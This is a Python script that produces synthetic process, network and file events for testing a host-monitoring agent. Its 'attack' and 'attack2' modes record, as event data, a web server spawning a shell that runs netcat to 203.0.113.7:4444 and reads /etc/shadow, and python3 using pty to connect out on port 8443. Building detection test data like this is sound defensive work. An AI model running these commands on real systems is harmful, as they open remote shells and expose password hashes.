#!/usr/bin/env python3
"""Synthetic-but-realistic agent output (JSON lines in the event contract) for tests and
benchmarks.

  gen_events.py baseline --host vm1 --herd web --members m1,m2 --rounds N [--seq-start S]
      a web service per member: nginx accepts, spawns a php worker, the worker connects to the
      database, reads its config; cron runs logrotate; plus heartbeats
  gen_events.py attack --host vm1 --herd web --member m3 --seq-start S
      the web server spawns a shell, the shell runs nc to a public address, cat reads /etc/shadow
  gen_events.py attack2 ...
      the web server spawns python3, which connects to a public address on 8443
  gen_events.py deploy --host vm1 --herd web --members m1,... --seq-start S [--app PATH]
      every member starts running a new binary (--app) with a new outbound connection
--version V gives the members (containers) that version (container.version), --host-version V
the host (host.version); both null by default.
Each host's seq is contiguous from --seq-start; containers of one host share the host's seq.
"""
import argparse, hashlib, json, random, sys, time

BOOT = "6c1b8f0e-7d1c-4d8e-9a55-0f5b2d3c4e1a"


def now_ts(i):
    t = time.time() + i * 1e-6
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + ".%09dZ" % int((t % 1) * 1e9)


class Host:
    def __init__(self, name, herd, seq, version=None, host_version=None):
        self.name, self.herd, self.seq = name, herd, seq
        self.version, self.host_version = version, host_version
        self.id = hashlib.sha1(name.encode()).hexdigest()[:32]
        self.pid = 1000

    def ev(self, kind, member, proc_exe, args, parent_exe, uid=33, extra=None):
        self.pid += 1
        e = {"seq": self.seq, "time": now_ts(self.seq), "kind": kind,
             "host": {"name": self.name, "id": self.id, "boot_id": BOOT, "herd": None,
                      "version": self.host_version},
             "proc": {"pid": self.pid, "tid": self.pid, "ppid": self.pid - 7, "uid": uid, "gid": uid,
                      "euid": uid, "egid": uid, "auid": None, "tty": None,
                      "comm": proc_exe.rsplit("/", 1)[-1][:15], "exe": proc_exe, "args": args,
                      "cwd": "/var/www", "cgroup": "/hw/%s/%s" % (self.herd, member) if member else "/",
                      "container": {"id": member, "herd": self.herd, "version": self.version} if member else None,
                      "key": "%s-%d-%d" % (BOOT[:8], self.pid, random.randint(1, 10**9))},
             "parent": {"pid": self.pid - 7, "exe": parent_exe, "args": [parent_exe.rsplit("/", 1)[-1]],
                        "key": "%s-%d-1" % (BOOT[:8], self.pid - 7)},
             "ancestors": [parent_exe, "/usr/lib/systemd/systemd"]}
        if extra:
            e.update(extra)
        self.seq += 1
        return json.dumps(e, separators=(",", ":"))


def net(src_ip, sport, dst_ip, dport):
    return {"net": {"proto": "tcp", "family": "inet", "src": {"ip": src_ip, "port": sport},
                    "dst": {"ip": dst_ip, "port": dport}, "result": 0}}


def baseline_round(h, m, out):
    rp = random.randint(32768, 60999)
    out.append(h.ev("net.accept", m, "/usr/sbin/nginx", ["nginx: worker process"], "/usr/sbin/nginx", 33,
                    net("10.0.1.5", 443, "10.0.9.%d" % random.randint(1, 250), rp)))
    out.append(h.ev("process.exec", m, "/usr/bin/php-fpm8.2", ["php-fpm8.2", "--job", str(random.randint(1, 10**6))],
                    "/usr/sbin/nginx", 33, {"exec": {"result": 0, "setuid": False, "fileless": False}}))
    out.append(h.ev("net.connect", m, "/usr/bin/php-fpm8.2", ["php-fpm8.2"], "/usr/sbin/nginx", 33,
                    net("10.0.1.5", random.randint(32768, 60999), "10.0.2.10", 5432)))
    out.append(h.ev("file.open", m, "/usr/bin/php-fpm8.2", ["php-fpm8.2"], "/usr/sbin/nginx", 33,
                    {"file": {"path": "/etc/app/config.%d.ini" % random.randint(10000, 99999), "op": "open",
                              "flags": "O_RDONLY", "result": 0, "watch": "/etc/app/"}}))
    out.append(h.ev("process.exec", m, "/usr/sbin/logrotate", ["logrotate", "/etc/logrotate.conf"],
                    "/usr/sbin/cron", 0, {"exec": {"result": 0, "setuid": False, "fileless": False}}))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["baseline", "attack", "attack2", "deploy", "heartbeat"])
    ap.add_argument("--host", default="vm1")
    ap.add_argument("--herd", default="web")
    ap.add_argument("--members", default="m1,m2,m3,m4,m5")
    ap.add_argument("--member", default="m3")
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--seq-start", type=int, default=1)
    ap.add_argument("--version", default=None)
    ap.add_argument("--host-version", default=None)
    ap.add_argument("--app", default="/opt/app/bin/app-v2")
    a = ap.parse_args()
    h = Host(a.host, a.herd, a.seq_start, a.version, a.host_version)
    out = []
    members = a.members.split(",") if a.members else [None]
    if a.mode == "baseline":
        for _ in range(a.rounds):
            for m in members:
                baseline_round(h, m, out)
        out.append(h.ev("agent.heartbeat", None, "/usr/sbin/herdwatch-agent", ["herdwatch-agent"],
                        "/usr/lib/systemd/systemd", 0, {"agent": {"version": "0.1", "probes": {}, "stats": {}}}))
    elif a.mode == "heartbeat":
        out.append(h.ev("agent.heartbeat", None, "/usr/sbin/herdwatch-agent", ["herdwatch-agent"],
                        "/usr/lib/systemd/systemd", 0, {"agent": {"version": "0.1", "probes": {}, "stats": {}}}))
    elif a.mode == "attack":
        m = a.member
        out.append(h.ev("process.exec", m, "/usr/bin/dash", ["sh", "-c", "id; nc 203.0.113.7 4444"],
                        "/usr/sbin/nginx", 33, {"exec": {"result": 0, "setuid": False, "fileless": False}}))
        out.append(h.ev("process.exec", m, "/usr/bin/nc.openbsd", ["nc", "203.0.113.7", "4444"],
                        "/usr/bin/dash", 33, {"exec": {"result": 0, "setuid": False, "fileless": False}}))
        out.append(h.ev("net.connect", m, "/usr/bin/nc.openbsd", ["nc", "203.0.113.7", "4444"], "/usr/bin/dash", 33,
                        net("10.0.1.5", random.randint(32768, 60999), "203.0.113.7", 4444)))
        out.append(h.ev("file.open", m, "/usr/bin/cat", ["cat", "/etc/shadow"], "/usr/bin/dash", 0,
                        {"file": {"path": "/etc/shadow", "op": "open", "flags": "O_RDONLY", "result": 0,
                                  "watch": "/etc/shadow"}}))
    elif a.mode == "attack2":
        m = a.member
        out.append(h.ev("process.exec", m, "/usr/bin/python3.11", ["python3", "-c", "import pty"],
                        "/usr/sbin/nginx", 33, {"exec": {"result": 0, "setuid": False, "fileless": False}}))
        out.append(h.ev("net.connect", m, "/usr/bin/python3.11", ["python3"], "/usr/sbin/nginx", 33,
                        net("10.0.1.5", random.randint(32768, 60999), "198.51.100.9", 8443)))
    elif a.mode == "deploy":
        for m in members:
            app = a.app.rsplit("/", 1)[-1]
            out.append(h.ev("process.exec", m, a.app, [app, "--serve"], "/usr/sbin/nginx", 33,
                            {"exec": {"result": 0, "setuid": False, "fileless": False}}))
            out.append(h.ev("net.connect", m, a.app, [app], "/usr/sbin/nginx", 33,
                            net("10.0.1.5", random.randint(32768, 60999), "10.0.3.3", 6379)))
    sys.stdout.write("\n".join(out) + "\n")
    sys.stderr.write("%d\n" % h.seq)


if __name__ == "__main__":
    main()
